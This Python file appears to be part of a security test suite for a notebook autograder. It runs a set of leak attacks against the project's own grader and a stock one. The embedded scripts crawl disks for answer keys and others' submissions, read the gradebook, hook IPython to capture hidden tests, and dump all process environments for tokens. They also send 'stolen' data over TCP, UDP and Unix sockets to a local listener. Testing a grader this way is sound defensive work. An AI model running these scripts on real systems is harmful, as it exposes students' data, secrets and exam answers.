"""Secrets: keys, other learners' work, the gradebook, tokens, the way out."""

from __future__ import annotations

from grader.bench.attacks.attack import Attack, gains
from grader.bench.attacks.ours import CLASS, OTHER, Ours
from grader.bench.attacks.stock import Stock

_LOOK_AROUND = """
import os, pathlib, sqlite3
places = [pathlib.Path(p) for p in {places!r}]
# Where a course folder lies as seen from a notebook that is being graded, and where else secrets are kept.
places += [pathlib.Path.cwd().parents[n] for n in range(min(4, len(pathlib.Path.cwd().parents)))]
places += map(pathlib.Path, ["/home", "/root", "/work", "/tmp", "/proc/1/root/tmp"])
looked = 0
skipped = (".venv", "node_modules", "site-packages", "proc", "sys", "usr", "lib", "lib64", ".git")
for place in places:
    try:
        for folder, below, names in os.walk(place):
            below[:] = [n for n in below if n not in skipped]
            for name in names:
                path = pathlib.Path(folder, name)
                if looked > 4000: break
                if path.suffix not in (".ipynb", ".json", ".db", ".csv", ".yml", ".txt"): continue
                looked += 1
                try:
                    text = path.read_bytes().decode("utf-8", "replace")
                except OSError:
                    continue
                for line in text.splitlines():
                    for secret in ("KEY", "OTHER"):
                        if "BIMAT-" + secret in line:
                            at = line.index("BIMAT-")
                            print(path.name, line[max(0, at - 40): at + 60])
    except (OSError, PermissionError) as error:
        print(type(error).__name__)
"""
_GRADEBOOK = """
import pathlib, sqlite3
for path in {paths!r} + [str(p / "gradebook.db") for p in pathlib.Path.cwd().parents]:
    if pathlib.Path(path).is_file():
        rows = sqlite3.connect(path).execute("select id from student").fetchall()
        print("LEARNERS", rows)
"""
_HOOK = """
def listen(info):
    print("HEARD", info.raw_cell)
get_ipython().events.register("pre_run_cell", listen)
def after(result):
    print("HEARD", result.info.raw_cell)
get_ipython().events.register("post_run_cell", after)
import atexit, gc, sys
for one in gc.get_objects():
    if isinstance(one, str) and "BEGIN HIDDEN" in one: print(one)
"""
_ENVIRONMENT = """
import os, pathlib
print(dict(os.environ))
for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try: print(path.read_bytes().replace(b"\\0", b" ").decode("utf-8", "replace"))
    except OSError: pass
for path in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
    try: print(path.read_bytes().decode("utf-8", "replace")[:300])
    except OSError: pass
"""


def _send(ours_or_stock: Ours | Stock) -> str:
    listener = ours_or_stock.ground.listener
    tcp, udp = listener.ports
    return f"""
import socket
def attempt(send):
    try: send()
    except OSError as error: print(type(error).__name__, error)
attempt(lambda: socket.create_connection(("127.0.0.1", {tcp}), timeout=2).sendall(b"stolen by TCP"))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen by UDP", ("127.0.0.1", {udp})))
attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"stolen by Unix", "\\0{listener.abstract}"))
attempt(lambda: socket.create_connection(("1.1.1.1", 53), timeout=1))
"""


def _read_disk(ours: Ours) -> str:
    state, lessons = ours.workspace.state, ours.workspace.lessons
    places = [str(state), str(lessons), str(ours.ground.root), f"/proc/self/root{state}"]
    source = _LOOK_AROUND.format(places=places)
    one = ours.code({"q1-code": source})
    two = ours.classic({"tong": source})
    return gains(ours.ground.stolen(one.outputs, "KEY", "OTHER"), ours.ground.stolen(two.outputs, "OTHER"))


def _read_disk_stock(stock: Stock) -> str:
    tried = stock.classic({"tong": _LOOK_AROUND.format(places=[])})
    return stock.ground.stolen(tried.feedback, "KEY", "OTHER")


def _read_gradebook(ours: Ours) -> str:
    source = _GRADEBOOK.format(paths=[str(ours.directory / "gradebook.db"), str(ours.workspace.state / "learn.db")])
    found = ours.code({"q1-code": source}).outputs + ours.classic({"tong": source}).outputs
    return "the names of all learners" if "LEARNERS [" in found else ""


def _read_gradebook_stock(stock: Stock) -> str:
    found = stock.classic({"tong": _GRADEBOOK.format(paths=[])}).feedback
    return "the names of all learners" if f"('{OTHER}'" in _plain(found) else ""


def _hook(ours: Ours) -> str:
    tried = ours.code({"q1-code": _HOOK, "q2-code": "print(In, Out, _oh)\nprint(vars(lesson))"})
    return ours.ground.stolen(tried.outputs + tried.shown, "KEY")


def _hook_classic(ours: Ours) -> str:
    """Classic tests run with the answers, as in nbgrader; what they are must not come back to the learner."""
    tried = ours.classic({"tong": _HOOK + "\ndef tong(so): return 0"})
    return ours.ground.stolen(tried.shown, "KEY")


def _hook_stock(stock: Stock) -> str:
    tried = stock.classic({"tong": _HOOK})
    return stock.ground.stolen(tried.feedback, "KEY")


def _traceback(ours: Ours) -> str:
    tried = ours.code({"q1-code": "lesson.answer('q1', 'no number')", "q2-code": "lesson.answer('q2', [[1]])"})
    other = ours.code({"q1-code": "lesson.answer('q1', 10**400)", "q2-code": "lesson.answer('q2', {'kg': [1]})"})
    shown = tried.shown + other.shown
    blamed = "the grader's traceback" if "course/expecting" in shown or "lesson.expect" in shown else ""
    return gains(ours.ground.stolen(shown, "KEY"), blamed)


def _traceback_classic(ours: Ours) -> str:
    tried = ours.classic({"tong": "def tong(so): raise ValueError(so)", "trung-binh": "pass"})
    hidden = (
        "a hidden test"
        if "[5, 5]" in _plain(tried.shown) or "assert_allclose(trung_binh([2" in _plain(tried.shown)
        else ""
    )
    return gains(ours.ground.stolen(tried.shown, "KEY"), hidden)


def _traceback_stock(stock: Stock) -> str:
    tried = stock.classic({"tong": "def tong(so):\n    return 6"})
    return "a hidden test" if "[5, 5]" in _plain(tried.feedback) else ""


def _plain(html: str) -> str:
    import re
    from html import unescape

    return unescape(re.sub(r"<[^>]+>", "", html))


def _hidden_data(ours: Ours) -> str:
    source = "print(bang.to_csv())\nbang\nraise ValueError(bang.to_csv())"
    tried = ours.code({"q1-code": source, "q2-code": "lesson.answer('q2', bang)\nbang"})
    return ours.ground.stolen(tried.shown, "DATA")


def _network(ours: Ours) -> str:
    source = _send(ours)
    ours.code({"q1-code": source})
    ours.classic({"tong": source})
    heard = ours.ground.listener.heard[:]
    ours.ground.listener.heard.clear()
    return f"{len(heard)} messages got out" if heard else ""


def _network_stock(stock: Stock) -> str:
    import time

    stock.classic({"tong": _send(stock)})
    time.sleep(0.3)
    heard = stock.ground.listener.heard[:]
    stock.ground.listener.heard.clear()
    return f"{len(heard)} messages got out" if heard else ""


def _environment(ours: Ours) -> str:
    found = ours.code({"q1-code": _ENVIRONMENT}).outputs + ours.classic({"tong": _ENVIRONMENT}).outputs
    return ours.ground.stolen(found, "TOKEN")


def _environment_stock(stock: Stock) -> str:
    return stock.ground.stolen(stock.classic({"tong": _ENVIRONMENT}).record, "TOKEN")


_GUESS = """
import pathlib, re
for place in {places!r} + [str(p / "submitted") for p in pathlib.Path.cwd().parents]:
    try: print(place, [p.name for p in pathlib.Path(place).rglob("*")][:50], "INBOX")
    except OSError: pass
"""


def _guess(ours: Ours) -> str:
    inbox = ours.workspace.inbox(CLASS, OTHER)
    names = [path.stem for path in inbox.iterdir()]
    assert names, "there has to be something to guess"
    exchange = ours.workspace.exchange(CLASS)
    source = _GUESS.format(places=[str(inbox), str(inbox.parent), str(exchange), str(exchange / "inbound")])
    found = ours.code({"q1-code": source}).outputs + ours.classic({"tong": source}).outputs
    return "another learner's receipt" if any(name in found for name in names) else ""


def _guess_stock(stock: Stock) -> str:
    found = stock.classic({"tong": _GUESS.format(places=[])}).record
    return "another learner's folder" if f"'{OTHER}'" in found else ""


CASES = [
    Attack(
        "read-disk",
        "leak",
        "reading sources, keys, the gradebook or another submission from disk",
        "walks through the file system for keys and others' answers and prints them",
        _read_disk,
        _read_disk_stock,
    ),
    Attack(
        "read-gradebook",
        "leak",
        "reading sources, keys, the gradebook or another submission from disk",
        "opens the class's gradebook and prints who is in it",
        _read_gradebook,
        _read_gradebook_stock,
    ),
    Attack(
        "hook-hears-tests",
        "leak",
        "capturing hidden tests in a hook",
        "prints every cell that runs after its own, and what it finds in memory",
        _hook,
        _hook_stock,
    ),
    Attack(
        "hook-hears-classic-tests",
        "leak",
        "capturing hidden tests in a hook",
        "the same in a classic assignment, whose tests do run there",
        _hook_classic,
    ),
    Attack(
        "traceback",
        "leak",
        "hidden tests or tracebacks in feedback",
        "answers so that the test fails and shows itself",
        _traceback,
        _traceback_stock,
    ),
    Attack(
        "traceback-classic",
        "leak",
        "hidden tests or tracebacks in feedback",
        "the same in a classic assignment",
        _traceback_classic,
    ),
    Attack(
        "hidden-data",
        "leak",
        "hidden tests or tracebacks in feedback",
        "prints the hidden data to type their results in with the next attempt",
        _hidden_data,
    ),
    Attack(
        "network",
        "leak",
        "sending things out over the network",
        "sends to listeners on TCP, UDP and an abstract Unix socket",
        _network,
        _network_stock,
    ),
    Attack(
        "environment",
        "leak",
        "environment variables and tokens",
        "prints the environment of every process it can see",
        _environment,
        _environment_stock,
    ),
    Attack(
        "guess-inbox",
        "leak",
        "guessing inbox folders",
        "lists the folders where others hand in",
        _guess,
        _guess_stock,
    ),
]
